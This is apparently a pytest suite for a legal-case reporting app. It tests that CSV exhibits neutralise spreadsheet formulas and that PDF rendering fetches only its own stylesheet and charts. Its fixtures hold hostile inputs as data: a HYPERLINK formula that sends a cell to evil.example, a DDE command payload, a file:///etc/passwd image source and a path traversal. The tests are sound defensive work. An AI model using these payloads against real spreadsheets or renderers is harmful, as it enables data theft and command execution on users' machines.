"""What the report does with hostile record text: CSV exhibits a spreadsheet opens as text,
not formulas, and pages that load nothing but their own stylesheet and charts."""

from __future__ import annotations

import csv
import datetime as dt
import hashlib
import io
import json
import socket
import subprocess
from pathlib import Path

import pytest
from django.conf import settings
from django.contrib.auth.models import Group

from casework.models import ReportJob
from casework.reports import render
from casework.reports.exhibits import ExhibitSet, exhibits_write
from casework.reports.formulas import FORMULA_NOTE
from casework.reports.redaction import Redactor
from casework.reports.render import ReportResourceError, report_render, report_url_fetcher
from casework.reports.snapshot import case_snapshot
from casework.services import case_accounts_attribute, case_open
from evidence.ingest.service import ingest_file
from evidence.models import Account

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("media_root")]

T0 = dt.datetime(2026, 1, 5, tzinfo=dt.UTC)
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")'
# Per usage row: (api_key_id, user_agent, end_user, prompt): each text field as a customer
# or a reseller's log may send it.
HOSTILE = (
    ("@SUM(A1:A9)", "+1", "-2", HYPERLINK),
    ("key_plain", "\t=1+2", "cust-1", "\r=cmd|' /C calc'!A0"),
    ("key_plain", "python-httpx/0.27", "", "Solve step by step: 1 - 2 = ?"),
)


def _write(path: Path, rows: list[dict]) -> Path:
    path.write_text("".join(json.dumps(r) + "\n" for r in rows))
    return path


@pytest.fixture
def hostile_case(tmp_path, counsel_user):
    """One attributed account whose profile and usage hold formulas, one plain one."""
    ingest_file(
        actor="system:test",
        kind="accounts",
        path=_write(
            tmp_path / "accounts.ndjson",
            [
                {"account_id": "acct_evil", "org_name": HYPERLINK, "email": "ops@evil.example",
                 "plan": "-tier", "created_at": "2025-12-01T08:00:00Z"},
                {"account_id": "acct_plain", "org_name": "Plain Labs", "plan": "tier-2"},
            ],
        ),
    )  # fmt: skip
    usage = [
        {"request_id": f"req_{n}", "ts": (T0 + dt.timedelta(hours=n)).isoformat(),
         "account_id": "acct_evil", "api_key_id": key, "model": "frontier-2",
         "input_tokens": 400 + n, "output_tokens": 900, "user_agent": agent,
         "end_user": end_user, "prompt": prompt, "status": 200}
        for n, (key, agent, end_user, prompt) in enumerate(HOSTILE)
    ]  # fmt: skip
    ingest_file(actor="system:test", kind="usage", path=_write(tmp_path / "usage.ndjson", usage))
    Group.objects.get_or_create(name="counsel")[0].user_set.add(counsel_user)
    case = case_open(
        actor=counsel_user, reference="PX-FORMULA", title="Formulas", respondent="Evil Ltd"
    )
    case_accounts_attribute(
        actor=counsel_user, case=case, accounts=Account.objects.all(), basis="payment"
    )
    return case


def _exhibits(case, edition: str, folder: Path) -> dict[str, object]:
    folder.mkdir()
    exhibits = exhibits_write(
        snapshot=case_snapshot(case=case),
        redactor=Redactor(edition),
        workdir=folder,
        report_data=b"{}",
    )
    return {e.file_name: e for e in exhibits}


def _rows(path: Path) -> list[dict[str, str]]:
    # Bytes decoded as they are: reading as text would turn the carriage returns into newlines.
    return list(csv.DictReader(io.StringIO(path.read_bytes().decode("utf-8"), newline="")))


def test_usage_cells_that_start_a_formula_are_written_quoted(hostile_case, tmp_path):
    exhibits = _exhibits(hostile_case, "counsel", tmp_path / "counsel")
    usage = {row["request_id"]: row for row in _rows(exhibits["usage.csv"].path)}
    first, second, third = (usage[f"req_{n}"] for n in range(3))
    assert first["api_key_id"] == "'@SUM(A1:A9)"
    assert first["user_agent"] == "'+1"
    assert first["end_user"] == "'-2"
    assert first["prompt_excerpt"] == "'" + HYPERLINK
    assert second["user_agent"] == "'\t=1+2"
    assert second["prompt_excerpt"].startswith("'\r=cmd|")
    # Text that does not start a formula, and the numbers of the record, are as stored.
    assert third["user_agent"] == "python-httpx/0.27"
    assert third["prompt_excerpt"] == "Solve step by step: 1 - 2 = ?"
    assert first["input_tokens"] == "400" and first["api_key_id"] != "key_plain"
    assert second["api_key_id"] == "key_plain"


def test_account_cells_that_start_a_formula_are_written_quoted(hostile_case, tmp_path):
    exhibits = _exhibits(hostile_case, "counsel", tmp_path / "counsel")
    accounts = {row["account_id"]: row for row in _rows(exhibits["accounts.csv"].path)}
    assert accounts["acct_evil"]["org_name"] == "'" + HYPERLINK
    assert accounts["acct_evil"]["plan"] == "'-tier"
    assert accounts["acct_plain"]["org_name"] == "Plain Labs"
    totals = {row["account_id"]: row for row in _rows(exhibits["account-totals.csv"].path)}
    assert totals["acct_evil"]["requests"] == "3"


def test_the_regulator_edition_quotes_them_too(hostile_case, tmp_path):
    exhibits = _exhibits(hostile_case, "regulator", tmp_path / "regulator")
    usage = {row["request_id"]: row for row in _rows(exhibits["usage.csv"].path)}
    assert usage["req_0"]["user_agent"] == "'+1"
    # Pseudonyms are Pacta's own text: they never start a formula and are left as made.
    assert usage["req_0"]["api_key_pseudonym"].startswith("PK-")
    assert usage["req_0"]["end_user_pseudonym"].startswith("PU-")


def test_each_exhibit_hash_covers_the_bytes_as_written(hostile_case, tmp_path):
    for edition in ("counsel", "regulator", "public"):
        for exhibit in _exhibits(hostile_case, edition, tmp_path / edition).values():
            data = exhibit.path.read_bytes()
            assert hashlib.sha256(data).hexdigest() == exhibit.sha256, exhibit.file_name
            assert len(data) == exhibit.size
    written = (tmp_path / "counsel" / "usage.csv").read_bytes()
    assert b"'+1" in written and b"'@SUM(A1:A9)" in written


def test_numbers_the_report_writes_stay_numbers(tmp_path):
    """Only text is marked: a negative figure the report computed is still a number."""
    exhibit = ExhibitSet(tmp_path).rows(
        "figures.csv", "Figures", "Test", ["count", "share", "label"], [[-2, -0.5, "-2"]]
    )
    assert exhibit.path.read_text() == "count,share,label\n-2,-0.5,'-2\n"
    assert exhibit.sha256 == hashlib.sha256(exhibit.path.read_bytes()).hexdigest()


# --- the pages: nothing fetched but the report's own stylesheet and charts ---------------

PNG_1x1 = (
    "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk"
    "YPhfDwAChwGA60e6kgAAAABJRU5ErkJggg=="
)


def _render(html: str, tmp_path: Path):
    return report_render(
        html=html, exhibits=[], target=tmp_path / "page.pdf", created=dt.datetime.now(dt.UTC)
    )


def test_a_file_outside_the_report_templates_is_refused_and_the_build_stops(tmp_path):
    html = '<html><body><p>x</p><img src="file:///etc/passwd"></body></html>'
    with pytest.raises(ReportResourceError, match="refused file:///etc/passwd"):
        _render(html, tmp_path)
    assert not (tmp_path / "page.pdf").exists()


def test_an_http_url_is_refused_without_a_connection(tmp_path):
    with socket.socket() as server:
        server.bind(("127.0.0.1", 0))
        server.listen()
        url = f"http://127.0.0.1:{server.getsockname()[1]}/x"
        with pytest.raises(ReportResourceError, match=f"refused {url}"):
            _render(f'<html><body><img src="{url}"></body></html>', tmp_path)
        server.setblocking(False)
        with pytest.raises(BlockingIOError):
            server.accept()  # nobody connected


def test_the_fetcher_allows_only_data_uris_and_the_report_templates(tmp_path):
    fetch = report_url_fetcher()
    assets = Path(settings.BASE_DIR) / "templates" / "reports"
    stylesheet = fetch((assets / "report.css").as_uri())
    assert stylesheet.content_type == "text/css"
    assert b"DejaVu" in stylesheet.read()
    stylesheet.close()
    assert fetch(PNG_1x1).read().startswith(b"\x89PNG")
    outside = tmp_path / "image.png"
    outside.write_bytes(b"\x89PNG")
    for url in (
        outside.as_uri(),
        (assets / ".." / ".." / "casework" / "config" / "settings.py").as_uri(),
        f"file://evil.example{assets / 'report.css'}",
        "https://example.com/font.woff",
        "ftp://example.com/x.png",
        "gopher://example.com/",
    ):
        with pytest.raises(ReportResourceError, match="refused"):
            fetch(url)


def test_the_report_still_loads_its_stylesheet_and_charts(tmp_path):
    html = (
        '<html><head><link rel="stylesheet" href="report.css"></head>'
        '<body><div class="cover"><div class="org">Aster Systems</div></div>'
        f'<img src="{PNG_1x1}"></body></html>'
    )
    rendered = _render(html, tmp_path)
    assert rendered.pages >= 1
    text = subprocess.run(
        ["pdftotext", str(rendered.path), "-"], capture_output=True, text=True, check=True
    ).stdout
    assert "ASTER SYSTEMS" in text  # `.cover .org` is upper case: the stylesheet was read
    fonts = subprocess.run(
        ["pdffonts", str(rendered.path)], capture_output=True, text=True, check=True
    ).stdout
    assert "DejaVu-Sans" in fonts  # the stylesheet's face, embedded


@pytest.mark.usefixtures("signing")
def test_a_built_report_fetches_only_its_own_resources_and_says_how_cells_are_marked(
    hostile_case, counsel_user, tmp_path, monkeypatch
):
    from casework.reports import report_build, report_job_request

    fetched: list[str] = []
    real = render.report_url_fetcher

    def spy(**kwargs):
        fetcher = real(**kwargs)
        fetch = fetcher.fetch

        def recorded(url, headers=None):
            fetched.append(url)
            return fetch(url, headers)

        fetcher.fetch = recorded
        return fetcher

    monkeypatch.setattr(render, "report_url_fetcher", spy)
    job = report_build(
        job=report_job_request(actor=counsel_user, case=hostile_case, edition="public")
    )
    assert job.status == ReportJob.Status.DONE, job.failure_reason
    assert [u for u in fetched if u.startswith("file:")] == [
        (Path(settings.BASE_DIR) / "templates" / "reports" / "report.css").as_uri()
    ]
    assert any(u.startswith("data:image/svg+xml;base64,") for u in fetched)  # the charts
    assert all(u.startswith(("file:", "data:")) for u in fetched)

    pdf = tmp_path / "public.pdf"
    pdf.write_bytes(job.pdf.file.read())
    text = subprocess.run(
        ["pdftotext", str(pdf), "-"], capture_output=True, text=True, check=True
    ).stdout
    flat = " ".join(text.split())
    assert "written with a single quote (') before it" in flat
    assert "that quote is Pacta's, not the" in flat  # the text hyphenates "record's"


@pytest.mark.parametrize("edition", ["counsel", "regulator", "public"])
def test_every_edition_says_how_cells_are_marked(hostile_case, edition):
    from casework.reports.context import report_context
    from casework.reports.render import report_html

    context = report_context(
        data=case_snapshot(case=hostile_case).data,
        edition=edition,
        redactor=Redactor(edition),
        table_rows=10,
    )
    assert FORMULA_NOTE.replace("'", "&#x27;") in report_html(context)


def test_a_response_quoted_in_chinese_prints_as_written(tmp_path):
    # A rival's identity claim is often in Chinese ("我是…"); quoted as evidence, it must be
    # readable in the PDF, not a row of empty boxes (the Makefile installs a CJK font).
    html = (
        '<html><head><link rel="stylesheet" href="report.css"></head>'
        "<body><blockquote>我是由Anthropic开发的AI助手。</blockquote></body></html>"
    )
    rendered = _render(html, tmp_path)
    text = subprocess.run(
        ["pdftotext", str(rendered.path), "-"], capture_output=True, text=True, check=True
    ).stdout
    assert "我是由Anthropic开发的AI助手" in text
    fonts = subprocess.run(
        ["pdffonts", str(rendered.path)], capture_output=True, text=True, check=True
    ).stdout
    assert "WenQuanYi" in fonts or "Noto" in fonts  # a CJK face, embedded
